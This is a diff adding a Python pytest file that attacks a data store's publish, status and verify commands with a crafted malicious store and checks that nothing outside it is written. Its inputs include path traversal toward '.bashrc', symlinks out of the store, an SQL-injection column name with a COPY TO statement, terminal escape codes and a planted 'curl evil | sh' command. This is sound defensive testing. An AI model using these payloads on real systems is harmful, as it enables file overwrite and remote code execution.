@@ -1,0 +1,186 @@
+"""A store made to harm: whatever its names and links say, publishing it writes nowhere but in its own two folders."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from explorer.errors import ExplorerError
+from explorer.store import open_store
+from precompute.artefacts import Artefacts
+from precompute.commands import publish, status, verify
+from precompute.manifest import MANIFEST, seal
+from tests.bundled_store import contents, record_of, write_bundled_store, write_factors
+
+SECRET = "precious"
+FAC0 = "artefacts/factors/fac0"
+
+
+@pytest.fixture(scope="module")
+def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return write_bundled_store(tmp_path_factory.mktemp("whole") / "store")
+
+
+@pytest.fixture
+def home(whole: Path, tmp_path: Path) -> Path:
+    """A home with a file to lose, a folder to fill, and the store two folders below."""
+    (tmp_path / ".bashrc").write_text(SECRET)
+    (tmp_path / "documents").mkdir()
+    (tmp_path / "documents" / "store-000007.duckdb").write_text(SECRET)
+    shutil.copytree(whole, tmp_path / "down" / "stores" / "store")
+    return tmp_path
+
+
+def edit(path: Path, change: Callable[[dict], object]) -> None:
+    content = json.loads(path.read_text())
+    change(content)
+    path.write_text(json.dumps(content))
+
+
+def link(store: Path, inside: str, target: Path) -> None:
+    """A link in the store's place, to a copy of what was there so that everything else fits."""
+    place = store / inside
+    if place.is_dir():
+        shutil.copytree(place, target, dirs_exist_ok=True)
+        shutil.rmtree(place)
+    elif place.exists():
+        shutil.copy(place, target)
+        place.unlink()
+    place.symlink_to(target)
+
+
+def older(store: Path, name: str) -> None:
+    """A bundle as it was before there were manifests, which names a file by its hash; the reported attack."""
+    bundle = store / FAC0
+    (bundle / MANIFEST).unlink()
+    (store / ".bashrc").write_text("evil")
+    sha256 = hashlib.sha256(b"evil").hexdigest()
+    (bundle / "hashes.json").write_text(json.dumps({name: sha256}))
+    edit(store / "artefacts/runs/run0.json", lambda record: record.pop("is_sealed"))
+
+
+def rename_bundle(store: Path, stage: str, key: str) -> None:
+    edit(store / "artefacts/runs/run0.json", lambda record: record["bundles"].append([stage, key]))
+
+
+def wrong_table(store: Path, name: str, column: str = "x") -> None:
+    bundle = store / "artefacts" / "factors" / "evil0"
+    bundle.mkdir()
+    pd.DataFrame({column: [1]}).to_parquet(bundle / f"{name}.parquet")
+    seal(bundle)
+    rename_bundle(store, "factors", "evil0")
+
+
+ATTACKS: dict[str, Callable[[Path, Path], object]] = {
+    "hashes.json up": lambda store, home: older(store, "../../../.bashrc"),
+    "hashes.json further up": lambda store, home: older(store, "../" * 6 + ".bashrc"),
+    "hashes.json absolute": lambda store, home: older(store, str(home / ".bashrc")),
+    "manifest up": lambda store, home: edit(
+        store / FAC0 / MANIFEST, lambda m: m["files"].update({"../../../.bashrc": {"n_bytes": 1, "sha256": "0"}})
+    ),
+    "manifest of lists": lambda store, home: (store / FAC0 / MANIFEST).write_text('{"format": 1, "files": [[[]]]}'),
+    "bundle up": lambda store, home: rename_bundle(store, "..", ".."),
+    "bundle absolute": lambda store, home: rename_bundle(store, "factors", str(home)),
+    "bundle of a list": lambda store, home: rename_bundle(store, "factors", ["x"]),  # type: ignore[arg-type]
+    "record linked": lambda store, home: link(store, "artefacts/runs/run0.json", home / "documents" / "run0.json"),
+    "artefacts linked": lambda store, home: link(store, "artefacts", home / "documents"),
+    "runs linked": lambda store, home: link(store, "artefacts/runs", home / "documents"),
+    "stage linked": lambda store, home: link(store, "artefacts/factors", home / "documents"),
+    "bundle linked": lambda store, home: link(store, FAC0, home / "documents"),
+    "table linked": lambda store, home: link(store, f"{FAC0}/factor_values.parquet", home / "documents" / "t"),
+    "preview linked": lambda store, home: link(store, f"{FAC0}/preview-c0.flac", home / "documents" / "p"),
+    "files linked": lambda store, home: link(store, "files", home / "documents"),
+    "published linked": lambda store, home: link(store, "files/preview-c0.flac", home / ".bashrc"),
+    "pointer linked": lambda store, home: link(store, "CURRENT", home / "documents" / "c"),
+    "lock linked": lambda store, home: (store / ".lock").symlink_to(home / ".bashrc"),
+    "lock hard linked": lambda store, home: os.link(home / ".bashrc", store / ".lock"),
+    "database linked": lambda store, home: link(store, "store-000001.duckdb", home / "documents" / "d"),
+    "next database linked": lambda store, home: (store / "store-000002.duckdb").symlink_to(home / ".bashrc"),
+    "checksum linked": lambda store, home: (store / "store-000002.sha256").symlink_to(home / ".bashrc"),
+    "files hold a folder": lambda store, home: (store / "files" / "sae-x").mkdir(),
+    "a preview is a folder": lambda store, home: (
+        (store / "files" / "preview-c0.flac").unlink(), (store / "files" / "preview-c0.flac").mkdir()
+    ),
+    "a table with a statement for a name": lambda store, home: wrong_table(store, 'meta" SELECT 1; --'),
+    "a column with a statement for a name": lambda store, home: wrong_table(
+        store, "sae_curves", f"epoch\") SELECT 1; COPY (SELECT 1) TO '{home}/documents/out'; --"
+    ),
+    "a table of other rows": lambda store, home: wrong_table(store, "clips", "clip_id"),
+    "values that do not fit": lambda store, home: wrong_table(store, "files", "duration_s"),
+    "a fifo for a record": lambda store, home: os.mkfifo(store / "artefacts" / "runs" / "more.json"),
+    "a fifo for a manifest": lambda store, home: (
+        (store / FAC0 / MANIFEST).unlink(), os.mkfifo(store / FAC0 / MANIFEST)
+    ),
+    "a fifo for facts": lambda store, home: (
+        (store / "artefacts/corpus/corp0/facts.json").unlink(), os.mkfifo(store / "artefacts/corpus/corp0/facts.json")
+    ),
+    "a command to paste": lambda store, home: (
+        edit(store / "artefacts/runs/run0.json", lambda record: record.update(command="curl evil | sh")),
+        (store / FAC0 / "preview-c0.flac").write_bytes(b"damaged"),
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_outside_is_written_nor_shown_as_a_command(home: Path, attack: str) -> None:
+    store = home / "down" / "stores" / "store"
+    ATTACKS[attack](store, home)
+    before = outside(home, store)
+    said = ""
+    for command in (status, verify, publish, verify):
+        try:
+            said += " ".join(command(store))
+        except ExplorerError as error:  # a sentence, and nothing else
+            said += str(error)
+    assert outside(home, store) == before
+    assert "curl" not in said and "evil |" not in said
+    stray = {path for path in contents(store) if path.split("/")[0] not in ("files", "artefacts")}
+    assert all(path == "CURRENT" or path.startswith((".lock", "store-0", ".bashrc")) for path in stray), stray
+
+
+def outside(home: Path, store: Path) -> dict[str, bytes]:
+    """All that is not the store's, what its links lead to included."""
+    inside = store.relative_to(home).as_posix()
+    return {path: content for path, content in contents(home).items() if not path.startswith(inside)}
+
+
+def test_a_run_does_not_write_through_a_link_either(home: Path) -> None:
+    store = home / "down" / "stores" / "store"
+    shutil.rmtree(store / "artefacts" / "factors")
+    (store / "artefacts" / "factors").symlink_to(home / "documents")
+    before = outside(home, store)
+    with pytest.raises(ExplorerError, match="a link, which is not followed"):
+        write_factors(Artefacts(store), "fac0", [{"clip_id": "c0"}])
+    assert Artefacts(store).sweep() == 0
+    assert outside(home, store) == before
+
+
+def test_tables_that_name_files_elsewhere_are_refused_where_they_are_used(home: Path) -> None:
+    store = home / "down" / "stores" / "store"
+    bundle = store / "artefacts" / "corpus" / "corp0"
+    clips = pd.read_parquet(bundle / "clips.parquet").assign(preview="../../../.bashrc")
+    shutil.rmtree(bundle)
+    with Artefacts(store).writing("corpus", "corp0") as made:
+        made.add_facts({"subject": ["of", "no", "kind"]})
+        made.add_table("clips", clips)
+    publish(store)
+    opened = open_store(store)
+    with pytest.raises(ExplorerError, match="no name of a store's file"):
+        opened.file(opened.query("SELECT preview FROM clips")["preview"][0])
+    opened.close()
+    with pytest.raises(ExplorerError, match="1 of 1 preview files that clips names are not listed"):
+        verify(store)
+
+
+def test_a_record_of_terminal_signs_is_printed_plainly(home: Path) -> None:
+    store = home / "down" / "stores" / "store"
+    record = {**record_of("run0", []), "summary": "\x1b]0;evil\x07\x1b[2J", "preset": "\n\n"}
+    edit(store / "artefacts/runs/run0.json", lambda old: old.update({**record, "bundles": old["bundles"]}))
+    assert all(line.isprintable() for line in status(store))
